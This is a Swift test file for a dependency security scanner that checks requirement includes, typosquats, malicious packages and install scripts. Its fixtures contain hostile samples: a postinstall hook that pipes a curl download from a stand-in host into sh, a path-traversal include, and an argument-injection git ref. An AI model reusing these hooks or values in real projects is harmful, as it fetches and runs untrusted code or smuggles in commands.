import BulwarkCore
import BulwarkDependencies
import Foundation
import Testing

private func makeRepo(_ files: [String: String]) throws -> String {
    let root = NSTemporaryDirectory() + "bulwark-deps-repo-\(UUID().uuidString)"
    for (p, t) in files {
        let full = root + "/" + p
        try FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try Data(t.utf8).write(to: URL(fileURLWithPath: full))
    }
    return root
}

private func sh(_ dir: String, _ args: [String]) throws {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    p.arguments = ["git", "-C", dir, "-c", "user.email=t@example.com", "-c", "user.name=t", "-c", "commit.gpgsign=false"] + args
    p.standardOutput = FileHandle.nullDevice
    p.standardError = FileHandle.nullDevice
    try p.run()
    p.waitUntilExit()
}

@Test func requirementIncludesAreFollowedWithinTheRepository() throws {
    let root = try makeRepo([
        "svc/requirements.txt": "-r deps/base.in\n-r ../../outside.txt\nfastapi==0.110.0\n",
        "svc/deps/base.in": "colourama==0.1.6\n",
    ])
    defer { try? FileManager.default.removeItem(atPath: root) }
    let file = SourceFile(relativePath: "svc/requirements.txt", absolutePath: root + "/svc/requirements.txt",
                          size: 60, maxWholeFileBytes: 1 << 20)
    let scanner = DependenciesScanner(database: .bundledOnly)
    let model = try #require(scanner.model(for: file, root: root))
    #expect(model.parsed?.includes.count == 2)
    #expect(model.parsed?.includes.last?.problem == "points outside the repository")
    let findings = scanner.scan(file, context: ScanContext(configuration: Configuration(), root: root))
    // The included file is not itself scanned (`.in`), so its malicious package is reported at the `-r` line.
    let mal = findings.first { $0.ruleID == "dep-known-malicious" }
    #expect(mal?.location.startLine == 1)
}

@Test func depsDiffListsAddedAndChangedPackages() throws {
    let root = try makeRepo([
        "requirements.txt": "fastapi==0.110.0 --hash=sha256:a\n",
        "web/package.json": #"{"name": "w", "dependencies": {"chalk": "^5.6.0"}}"#,
    ])
    defer { try? FileManager.default.removeItem(atPath: root) }
    try sh(root, ["init", "-q"])
    try sh(root, ["add", "-A"])
    try sh(root, ["commit", "-q", "-m", "base"])
    try Data("fastapi==0.111.0 --hash=sha256:a\nreqeusts==2.31.0 --hash=sha256:b\nultralytics==8.3.41 --hash=sha256:c\n".utf8)
        .write(to: URL(fileURLWithPath: root + "/requirements.txt"))
    try Data(#"{"name": "w", "scripts": {"postinstall": "curl -s https://x.example/a | sh"}, "dependencies": {"chalk": "5.6.1"}}"#.utf8)
        .write(to: URL(fileURLWithPath: root + "/web/package.json"))
    let diff = try DependencyDiff.compare(root: root, base: "HEAD", database: .bundledOnly)
    let byName = Dictionary(diff.changes.map { ($0.name, $0) }, uniquingKeysWith: { a, _ in a })
    #expect(byName["fastapi"]?.kind == .changed && byName["fastapi"]?.oldVersion == "0.110.0")
    #expect(byName["reqeusts"]?.typosquatOf == "requests")
    #expect(byName["ultralytics"]?.malicious == true && byName["ultralytics"]?.verdict == "critical")
    #expect(byName["chalk"]?.malicious == true)
    #expect(byName["postinstall"]?.kind == .script && byName["postinstall"]?.verdict == "high")
    #expect(diff.hasFindings())
    let text = diff.renderText()
    #expect(text.contains("TYPOSQUAT of requests") && text.contains("MALICIOUS"))
    #expect(diff.renderJSON().contains("\"schemaVersion\" : 1"))
    #expect(throws: (any Error).self) { try DependencyDiff.compare(root: root, base: "no-such-ref", database: .bundledOnly) }
    #expect(throws: (any Error).self) { try DependencyDiff.compare(root: root, base: "--output=/tmp/x", database: .bundledOnly) }
}
